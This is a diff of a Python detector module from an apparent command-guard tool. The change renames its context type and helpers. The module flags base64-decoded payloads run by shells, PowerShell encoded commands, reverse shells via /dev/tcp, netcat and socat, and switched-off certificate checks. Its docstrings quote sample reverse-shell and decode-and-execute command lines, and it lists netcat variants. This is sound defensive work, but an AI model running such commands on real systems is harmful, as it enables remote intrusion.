@@ -4,8 +4,8 @@ from collections.abc import Iterator, Mapping
 from itertools import pairwise
 
 from automode.guards.floor.rows import OFF, is_loopback, tables
-from automode.guards.guard import See, Sight, shown, words
-from automode.programs.inline_effects import RUNS_DECODED
+from automode.guards.guard import CommandContext, See, excerpt, words
+from automode.programs.inline_python import RUNS_DECODED
 from automode.programs.table import programs
 from automode.shell.options import arguments
 from automode.shell.script import HOLE, Command, Script
@@ -43,41 +43,41 @@ def _reads_code(command: Command) -> bool:
     return not inline and (not names or names[0] in ("/dev/stdin", "/dev/fd/0"))
 
 
-def sees_decoded(sight: Sight) -> str | None:
-    command = sight.command
+def sees_decoded(context: CommandContext) -> str | None:
+    command = context.command
     if command.program == RUNS_DECODED:
         return "the code decodes a text and runs it"
-    if sight.name in ("powershell", "pwsh") and any(map(_encoded, sight.texts)):
-        return f"the script for `{sight.name}` is encoded"
-    decoders = [c for c in sight.script.commands if decodes(c)]
+    if context.name in ("powershell", "pwsh") and any(map(_is_encoded_option, context.texts)):
+        return f"the script for `{context.name}` is encoded"
+    decoders = [c for c in context.script.commands if decodes(c)]
     if not decoders:
         return None
-    piped = sight.name in _INTERPRETERS and command.position and _reads_code(command)
+    piped = context.name in _INTERPRETERS and command.position and _reads_code(command)
     if piped and any(
         one.pipeline == command.pipeline and one.position < command.position for one in decoders
     ):
-        return f"what is decoded goes into `{sight.name}`"
-    if _takes_output(sight, decoders):
-        return f"what is decoded is run by `{sight.name}`"
+        return f"what is decoded goes into `{context.name}`"
+    if _takes_output(context, decoders):
+        return f"what is decoded is run by `{context.name}`"
     return None
 
 
-def _encoded(text: str) -> bool:
+def _is_encoded_option(text: str) -> bool:
     """`-EncodedCommand` and every abbreviation of it that PowerShell takes."""
     return len(text) > 1 and "-encodedcommand".startswith(text.casefold())
 
 
-def _takes_output(sight: Sight, decoders: list[Command]) -> bool:
+def _takes_output(context: CommandContext, decoders: list[Command]) -> bool:
     """`bash <(base64 -d x)`, `eval "$(… | base64 -d)"`, `sh -c "$(base64 -d <<< …)"`: the decoder
     stands in a substitution, which is listed right before the command that uses it."""
-    command = sight.command
-    evaluates = sight.name in EVALUATES or "-c" in sight.texts or "-e" in sight.texts
+    command = context.command
+    evaluates = context.name in EVALUATES or "-c" in context.texts or "-e" in context.texts
     unknown = [w for w in command.args if HOLE in w.text]
-    if sight.name not in _INTERPRETERS and sight.name not in EVALUATES:
+    if context.name not in _INTERPRETERS and context.name not in EVALUATES:
         return False
-    before = _just_before(sight.script, command)
+    before = _just_before(context.script, command)
     if before is None or not decodes(before):
-        return bool(unknown) and evaluates and _assigned_from(sight.script, decoders)
+        return bool(unknown) and evaluates and _assigned_from(context.script, decoders)
     literal = evaluates and any(w.value for w in command.args)
     return bool(unknown) or (literal and before.pipeline != command.pipeline)
 
@@ -102,9 +102,9 @@ def _just_before(script: Script, command: Command) -> Command | None:
 _SHELLS = SHELLS | words("cmd powershell pwsh python python3 perl")
 
 
-def _connected(sight: Sight) -> str | None:
+def _connection_as_input(context: CommandContext) -> str | None:
     """`bash -i >& /dev/tcp/HOST/PORT 0>&1`."""
-    for redirect in sight.command.redirects:
+    for redirect in context.command.redirects:
         if redirect.target.text.startswith(("/dev/tcp/", "/dev/udp/")):
             return "its input and output are a connection"
     return None
@@ -114,8 +114,8 @@ def _is_shell(text: str) -> bool:
     return text.split(",", 1)[0].split()[0].rsplit("/", 1)[-1] in _SHELLS if text.strip() else False
 
 
-def _netcat(sight: Sight) -> str | None:
-    texts = sight.texts
+def _netcat(context: CommandContext) -> str | None:
+    texts = context.texts
     for index, text in enumerate(texts):
         name, equals, value = text.partition("=")
         short = name[:1] == "-" and name[:2] != "--" and name[-1:] in ("e", "c")
@@ -126,8 +126,8 @@ def _netcat(sight: Sight) -> str | None:
     return None
 
 
-def _socat(sight: Sight) -> str | None:
-    parts = [text.partition(":") for text in sight.texts]
+def _socat(context: CommandContext) -> str | None:
+    parts = [text.partition(":") for text in context.texts]
     kinds = {kind.casefold() for kind, _, _ in parts}
     shell = any(
         kind.casefold() in ("exec", "system") and _is_shell(rest.strip("'\""))
@@ -138,14 +138,14 @@ def _socat(sight: Sight) -> str | None:
 
 
 CONNECTORS: Mapping[str, See] = {
-    **dict.fromkeys(SHELLS, _connected),
+    **dict.fromkeys(SHELLS, _connection_as_input),
     **dict.fromkeys(words("nc ncat netcat nc.traditional nc.openbsd"), _netcat),
     "socat": _socat,
 }
 
 
-def sees_remote_shell(sight: Sight) -> str | None:
-    return CONNECTORS[sight.name](sight)
+def sees_remote_shell(context: CommandContext) -> str | None:
+    return CONNECTORS[context.name](context)
 
 
 _ON = words("1 true yes on")
@@ -165,15 +165,15 @@ _EXPORTING = words("export declare typeset readonly local setx launchctl")
 _HOST_OPTIONS = ("--trusted-host", "--allow-insecure-host")
 
 
-def sees_unchecked(sight: Sight) -> str | None:
-    for name, value in _variables(sight):
+def sees_unchecked(context: CommandContext) -> str | None:
+    for name, value in _variables(context):
         if weakens(name, value):
-            return f"`{shown(name)}={shown(value)}` switches certificate checks off"
-    match sight.name:
+            return f"`{excerpt(name)}={excerpt(value)}` switches certificate checks off"
+    match context.name:
         case "curl":
-            return _curl(sight)
+            return _curl(context)
         case "pip" | "pip3" | "uv" | "python" | "python3":
-            return _pip(sight.texts)
+            return _pip(context.texts)
         case _:
             return None
 
@@ -192,19 +192,19 @@ def weakens(name: str, value: str) -> bool:
             return name == "GOFLAGS" and "-insecure" in value
 
 
-def _variables(sight: Sight) -> Iterator[tuple[str, str]]:
-    command = sight.command
+def _variables(context: CommandContext) -> Iterator[tuple[str, str]]:
+    command = context.command
     for assignment in (*command.assignments, *command.environment):
         yield assignment.name, assignment.value.text
-    if sight.name in _EXPORTING:
-        yield from ((text.partition("=")[0], text.partition("=")[2]) for text in sight.texts)
-    if sight.name in ("setenv", "set", "setx"):
-        plain = [text for text in sight.texts if not text.startswith("-")]
+    if context.name in _EXPORTING:
+        yield from ((text.partition("=")[0], text.partition("=")[2]) for text in context.texts)
+    if context.name in ("setenv", "set", "setx"):
+        plain = [text for text in context.texts if not text.startswith("-")]
         yield from [(plain[0], plain[1])] if len(plain) > 1 else []
 
 
-def _curl(sight: Sight) -> str | None:
-    given = arguments(sight.args, programs()["curl"].row.loose_spec)
+def _curl(context: CommandContext) -> str | None:
+    given = arguments(context.args, programs()["curl"].row.loose_spec)
     flag = next((one.name for one in given.options if one.name in _CURL_FLAGS), None)
     named = given.value("--url")
     urls = (*given.operands, named) if named is not None else given.operands
@@ -220,5 +220,5 @@ def _pip(texts: list[str]) -> str | None:
         name, equals, value = text.partition("=")
         if name in _HOST_OPTIONS or name.endswith(".trusted-host"):
             host = value if equals else after
-            return None if is_loopback(f"https://{host}") else f"`{shown(host)}` goes unchecked"
+            return None if is_loopback(f"https://{host}") else f"`{excerpt(host)}` goes unchecked"
     return None
